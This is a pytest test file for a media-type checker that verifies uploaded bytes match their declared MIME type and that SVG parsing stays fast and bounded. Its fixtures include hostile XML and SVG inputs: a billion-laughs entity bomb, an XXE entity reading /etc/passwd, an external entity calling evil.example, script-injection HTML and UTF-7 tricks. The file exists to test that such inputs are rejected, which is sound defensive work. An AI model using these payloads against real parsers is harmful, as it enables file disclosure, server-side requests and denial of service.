"""The bytes of a file say what it is; nothing else gets in under its name."""

from time import monotonic

import pytest

from sessions_app.media_types import (
    ENTITY_FILE_BYTES,
    MAX_DEPTH,
    PICTURE_BYTES,
    MediaType,
    media_type,
)
from tests.sessions_app.files import FILES, SVG

HTML = b"<!doctype html><script>alert(1)</script>"
LAUGHS = (
    b'<!DOCTYPE svg [<!ENTITY a "ha">'
    + b"".join(
        f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">'.encode()
        for n in range(9)
    )
    + b']><svg xmlns="http://www.w3.org/2000/svg"><text>&j;</text></svg>'
)
FONTS = {"font/ttf", "font/otf"}


def kind_of(declared: str) -> MediaType:
    kind = media_type(declared)
    assert kind is not None
    return kind


@pytest.mark.parametrize("declared", FILES)
def test_every_type_knows_its_own_and_none_of_the_others(declared: str) -> None:
    for real, content in FILES.items():
        is_own = real == declared or {real, declared} <= FONTS
        assert kind_of(declared).fits(content) is is_own, real


@pytest.mark.parametrize("declared", FILES)
@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"\0",
        HTML,
        b"GIF" + HTML,
        b"BM" + HTML,
        b"\0\0\1\0" + HTML,
        b"\0\0\1\0\0\0" + HTML,
        b"RIFF" + HTML,
        b"\0\0\0\x20ftyp" + HTML,
        b"\xef\xbb\xbf" + HTML,
        b"%PDF-1.7",
        b"PK\3\4",
        b"MZ",
        b"\x1f\x8b\x08" + SVG,
        LAUGHS,
        SVG[:-1],
        SVG.replace(b"2000", b"2001"),
        b"<svg/>",
        b'<html xmlns="http://www.w3.org/1999/xhtml">' + SVG + b"</html>",
        SVG + HTML,
        b"<!DOCTYPE s [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>" + SVG,
        b"<!DOCTYPE s [<!ENTITY % x SYSTEM 'http://evil.example'> %x;]>" + SVG,
        b"<!DOCTYPE s [<!ENTITY x '" + b"x" * 201 + b"'>]>" + SVG,
        b'<?xml version="1.0" encoding="utf-7"?>' + SVG,
    ],
)
def test_what_fits_nowhere(declared: str, content: bytes) -> None:
    assert not kind_of(declared).fits(content)


@pytest.mark.parametrize(
    "drawing",
    [
        b'<?xml version="1.0" encoding="UTF-8"?>\n<!-- made by hand -->\n' + SVG,
        b"\xef\xbb\xbf" + SVG,
        SVG.decode().encode("utf-16"),
        b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" ['
        b'<!ENTITY ns_svg "http://www.w3.org/2000/svg">]>'
        b'<svg xmlns="&ns_svg;"><script>alert(1)</script></svg>',
        b'<s:svg xmlns:s="http://www.w3.org/2000/svg"/>',
    ],
)
def test_drawings_as_they_are_made(drawing: bytes) -> None:
    """A script in one is nothing: it is shown as a picture, and served sandboxed."""
    assert kind_of("image/svg+xml").fits(drawing)


BOMB = b"<!DOCTYPE s [<!ENTITY x '" + b"x" * 200 + b"'>]>" + SVG[:-6]


@pytest.mark.parametrize(
    ("head", "text", "size"),
    [
        (BOMB, b"&x;", PICTURE_BYTES),
        (BOMB, b"&x;", ENTITY_FILE_BYTES),
        (SVG[:-6], b"<g/>", PICTURE_BYTES),
        (SVG[:-6], b"<g>", PICTURE_BYTES),
    ],
    ids=["large", "expanding", "many", "deep"],
)
def test_the_worst_drawing_is_looked_at_quickly(
    head: bytes, text: bytes, size: int
) -> None:
    drawing = head + text * ((size - len(head) - 6) // len(text)) + b"</svg>"
    began = monotonic()
    kind_of("image/svg+xml").fits(drawing)
    assert monotonic() - began < 10


def test_a_drawing_is_as_deep_as_real_ones_are() -> None:
    def nested(depth: int) -> bytes:
        return SVG[:-6] + b"<g>" * depth + b"</g>" * depth + b"</svg>"

    assert kind_of("image/svg+xml").fits(nested(MAX_DEPTH - 1))
    assert not kind_of("image/svg+xml").fits(nested(MAX_DEPTH))


@pytest.mark.parametrize(
    ("declared", "name"),
    [
        ("image/PNG", "image/png"),
        (" image/png ; q=1", "image/png"),
        ("image/jpg", "image/jpeg"),
        ("image/vnd.microsoft.icon", "image/x-icon"),
        ("application/x-font-woff", "font/woff"),
        ("font/sfnt", "font/ttf"),
        ("application/vnd.ms-opentype", "font/otf"),
    ],
)
def test_other_names_of_a_type(declared: str, name: str) -> None:
    assert kind_of(declared).name == name


@pytest.mark.parametrize(
    "declared",
    [
        "",
        ";",
        "image",
        "image/",
        "image/*",
        "image/tiff",
        "text/html",
        "font/collection",
    ],
)
def test_types_that_are_not_taken(declared: str) -> None:
    assert media_type(declared) is None
